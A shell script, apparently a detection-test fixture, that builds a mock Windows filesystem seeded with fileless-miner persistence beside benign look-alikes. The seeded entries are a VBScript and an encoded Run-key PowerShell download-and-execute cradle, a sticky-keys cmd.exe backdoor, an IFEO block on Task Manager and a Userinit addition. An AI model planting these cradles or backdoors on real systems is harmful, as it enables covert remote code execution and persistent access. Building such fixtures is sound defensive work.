#!/bin/sh
# Fileless miners (seeds 000 and 003): an encoded PowerShell download cradle in the
# user's Run key, a VBScript at the top of C:\Windows started from
# Policies\Explorer\Run under a browser's name, Task Manager kept from starting by an IFEO
# debugger, the sticky-keys backdoor, and a second program added to Winlogon's Userinit.
# Benign look-alikes beside them: Teams' updater at logon, an inventory script run by
# PowerShell from Program Files, a logon batch file that maps a share; WMI subscriptions
# in the repository (see below).
set -e
root=$1
here=$(cd "$(dirname "$0")" && pwd)
mk="python3 $here/../../windows/mkwin.py"
$mk base "$root"
$mk file "$root" 'C:\ProgramData\svchost32.exe'
$mk file "$root" 'C:\Users\Administrator\AppData\Local\Microsoft\Teams\Update.exe'
cat > "$root/Windows/servicecrsssr.vbs" <<'VBS'
Set ws = CreateObject("WScript.Shell")
ws.Run "powershell -w hidden -c ""IEX(New-Object Net.WebClient).DownloadString('http://xmr.pool.minergate.com/a.ps1')""", 0
VBS
printf '@echo off\r\nnet use Z: \\\\fileserver\\share /persistent:no\r\n' \
	>"$root/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/mapdrive.bat"
cat > "$root/user.reg" <<'REG'
[Software\Microsoft\Windows\CurrentVersion\Run]
"MicrosoftEdgeUpdate"="powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AcABhAHMAdABlAGIAaQBuAC4AYwBvAG0ALwByAGEAdwAvAFgAYwAyAFkAZABjADkAJwApADsAIABTAHQAYQByAHQALQBQAHIAbwBjAGUAcwBzACAAJABlAG4AdgA6AFQARQBNAFAAXABtAHMAYwBvAHIAcwB2AC4AZQB4AGUA"
"com.squirrel.Teams.Teams"="C:\Users\Administrator\AppData\Local\Microsoft\Teams\Update.exe --processStart \"Teams.exe\" --process-start-args \"--system-initiated\""
REG
$mk reg "$root" NTUSER:Administrator "$root/user.reg"
cat > "$root/sw.reg" <<'REG'
[Microsoft\Windows\CurrentVersion\Policies\Explorer\Run]
"Chrome"="wscript.exe C:\Windows\servicecrsssr.vbs"

[Microsoft\Windows\CurrentVersion\Run]
"Inventory"="powershell.exe -NoProfile -File \"C:\Program Files\Contoso\inventory.ps1\""

[Microsoft\Windows NT\CurrentVersion\Image File Execution Options\taskmgr.exe]
"Debugger"="ntsd -d"

[Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe]
"Debugger"="C:\Windows\System32\cmd.exe"

[Microsoft\Windows NT\CurrentVersion\Winlogon]
"Userinit"="C:\Windows\system32\userinit.exe,C:\ProgramData\svchost32.exe"
REG
$mk reg "$root" SOFTWARE "$root/sw.reg"
rm "$root/user.reg" "$root/sw.reg"
# WMI: WannaMine's DSM Event Log subscription (encoded PowerShell), a VBScript consumer
# on logon, Windows' own SCM Event Log and BVT subscriptions, freed and damaged pages
python3 "$here/../../windows/mkwmirepo.py" "$root/Windows/System32/wbem/Repository/OBJECTS.DATA"
